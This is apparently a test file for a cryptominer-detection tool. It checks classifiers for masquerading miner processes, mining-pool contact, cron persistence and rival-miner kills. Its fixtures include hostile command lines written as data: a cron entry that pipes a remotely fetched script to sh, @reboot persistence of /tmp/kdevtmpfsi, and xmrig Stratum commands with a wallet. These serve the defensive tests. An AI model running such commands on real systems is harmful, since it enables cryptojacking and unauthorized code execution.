import assert from 'node:assert/strict';
import { test } from 'node:test';
import { kill } from './kill.js';
import { namedDestination } from './named-destination.js';
import { network } from './network.js';
import { persistence } from './persistence.js';
import { processClassifier } from './process.js';
import { evt, signalsOf } from './test-events.js';

const kinds = (s: { kind: string; strength: string }[]) => s.map((x) => `${x.kind}/${x.strength}`).sort();

test('a known miner in /tmp is a miner that masquerades by location (kdevtmpfsi is no kernel thread)', () => {
  const s = signalsOf(
    processClassifier,
    evt('exec', { process: { pid: 9, name: 'kdevtmpfsi', executable: '/tmp/kdevtmpfsi' } }),
  );
  assert.deepEqual(kinds(s), ['masquerade/medium', 'miner-process/strong']);
});

test('a kernel-thread name on a real executable is masquerade; a real kernel thread is not', () => {
  const fake = signalsOf(
    processClassifier,
    evt('process-seen', { process: { pid: 9, name: '[kworker/0:1]', executable: '/usr/bin/.x/k' } }),
  );
  assert.ok(fake.some((x) => x.kind === 'masquerade' && x.strength === 'strong'));
  assert.deepEqual(signalsOf(processClassifier, evt('process-seen', { process: { pid: 9, name: 'kworker/0:1' } })), []);
});

test('ordinary heavy programs and a Monero node raise no process evidence', () => {
  for (const [name, exe, cmd] of [
    ['python3', '/usr/bin/python3.11', 'python3 train.py --epochs 50'],
    ['ffmpeg', '/usr/bin/ffmpeg', 'ffmpeg -i a.mov -c:v libx264 b.mp4'],
    ['monerod', '/usr/local/bin/monerod', '/usr/local/bin/monerod --data-dir /var/lib/monero'],
    ['cc1', '/usr/lib/gcc/x86_64-linux-gnu/12/cc1', 'cc1 -quiet x.c'],
  ])
    assert.deepEqual(
      signalsOf(processClassifier, evt('exec', { process: { pid: 1, name, executable: exe, command_line: cmd } })),
      [],
      name,
    );
});

test('a wallet next to pool options is strong miner evidence; a deleted executable is masquerade', () => {
  const cmd =
    '/opt/x/app -o 1.2.3.4:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
  const s = signalsOf(
    processClassifier,
    evt('exec', { process: { pid: 1, name: 'app', executable: '/opt/x/app', command_line: cmd, exe_deleted: true } }),
  );
  assert.deepEqual(kinds(s), ['masquerade/medium', 'miner-process/strong']);
});

test('pool contact by DNS name and by listed IP; port alone is weak; no resolution of names', () => {
  const dns = signalsOf(network, evt('dns-query', { dns: { question: { name: 'xmr-eu1.nanopool.org' } } }));
  assert.deepEqual(kinds(dns), ['pool-contact/strong']);
  const ip = signalsOf(network, evt('connect', { destination: { ip: '185.71.66.20', port: 14444 } }));
  assert.deepEqual(kinds(ip), ['pool-contact/medium']);
  const port = signalsOf(network, evt('connect', { destination: { ip: '198.51.100.9', port: 3333 } }));
  assert.deepEqual(kinds(port), ['mining-port/weak']);
  assert.deepEqual(signalsOf(network, evt('dns-query', { dns: { question: { name: 'pool.ntp.org' } } })), []);
  assert.deepEqual(signalsOf(network, evt('connect', { destination: { ip: '88.198.163.90', port: 18080 } })), []);
});

test('a connection to the pool port a process names in its own arguments is pool contact', () => {
  const cmd = '/tmp/kdevtmpfsi -o stratum+tcp://pool.supportxmr.com:3333 -u x';
  const s = signalsOf(
    namedDestination,
    evt('connect', {
      process: { pid: 1, name: 'kdevtmpfsi', command_line: cmd },
      destination: { ip: '198.51.100.23', port: 3333 },
    }),
  );
  assert.deepEqual(kinds(s), ['pool-contact/strong']);
  assert.match(s[0].explanation, /pool\.supportxmr\.com:3333/);
  const other = signalsOf(
    namedDestination,
    evt('connect', {
      process: { pid: 1, command_line: 'curl https://example.com:8443/x' },
      destination: { ip: '1.2.3.4', port: 8443 },
    }),
  );
  assert.deepEqual(other, []);
});

test('a Stratum URL naming its pool by address is pool contact only for that very address and port', () => {
  const cmd = '/tmp/.x/xmrig -o stratum+tcp://203.0.113.9:13333 -u x';
  const conn = (ip: string, port: number) =>
    signalsOf(
      namedDestination,
      evt('connect', { process: { pid: 1, name: 'xmrig', command_line: cmd }, destination: { ip, port } }),
    );
  const s = conn('203.0.113.9', 13333);
  assert.deepEqual(kinds(s), ['pool-contact/strong']);
  assert.match(
    s[0].explanation,
    /the Stratum pool stratum\+tcp:\/\/203\.0\.113\.9:13333 named in its own command line/,
  );
  assert.deepEqual(conn('203.0.113.10', 13333), []);
  assert.deepEqual(conn('203.0.113.9', 443), []);
});

test('persistence entries are graded by what they run and tied to their target', () => {
  const entry = (line: string, target?: string) =>
    evt('persistence-entry', {
      process: { command_line: line },
      file: { path: '/var/spool/cron/crontabs/root', line },
      coalmine: {
        ts: 0,
        format: 'crontab',
        ref: { file: 'root', line: 3 },
        persistence: { mechanism: 'cron', target },
      },
    });
  const bad = signalsOf(persistence, entry('@reboot /tmp/kdevtmpfsi > /dev/null 2>&1', '/tmp/kdevtmpfsi'));
  assert.deepEqual(kinds(bad), ['persistence/strong']);
  assert.equal(bad[0].subject?.persistenceTarget, '/tmp/kdevtmpfsi');
  assert.deepEqual(kinds(signalsOf(persistence, entry('* * * * * curl -fsSL http://203.0.113.47/d.sh | sh'))), [
    'persistence/strong',
  ]);
  assert.deepEqual(
    kinds(signalsOf(persistence, entry('17 * * * * cd / && run-parts --report /etc/cron.hourly', '/etc/cron.hourly'))),
    ['persistence/weak'],
  );
  const write = signalsOf(
    persistence,
    evt('file-write', { process: { pid: 5, name: 'crontab' }, file: { path: '/var/spool/cron/crontabs/redis' } }),
  );
  assert.deepEqual(kinds(write), ['persistence/medium']);
  assert.deepEqual(
    signalsOf(persistence, evt('file-write', { process: { pid: 5 }, file: { path: '/var/log/app.log' } })),
    [],
  );
});

test('killing a rival miner links the killer to its victim; ordinary kills do not count', () => {
  const sys = signalsOf(
    kill,
    evt('kill', { process: { pid: 4110, name: 'pkill', target: { pid: 3377, name: 'xmrig', signal: 9 } } }),
  );
  assert.deepEqual(kinds(sys), ['competitor-kill/strong']);
  assert.equal(sys[0].subject?.victimPid, 3377);
  const cmd = signalsOf(kill, evt('exec', { process: { pid: 1, args: ['killall', '-9', 'kthreaddi', 'sysupdate'] } }));
  assert.equal(cmd[0].subject?.victim, 'kthreaddi');
  assert.match(cmd[0].explanation, /kthreaddi, sysupdate/);
  assert.deepEqual(signalsOf(kill, evt('exec', { process: { pid: 1, args: ['pkill', '-f', 'gunicorn'] } })), []);
  assert.deepEqual(signalsOf(kill, evt('exec', { process: { pid: 1, args: ['kill', '-HUP', '812'] } })), []);
  assert.deepEqual(signalsOf(kill, evt('exec', { process: { pid: 1, args: ['docker', 'kill', 'webapp'] } })), []);
  assert.deepEqual(
    signalsOf(kill, evt('kill', { process: { pid: 1, target: { pid: 2, name: 'xmrig', signal: 0 } } })),
    [],
  );
});
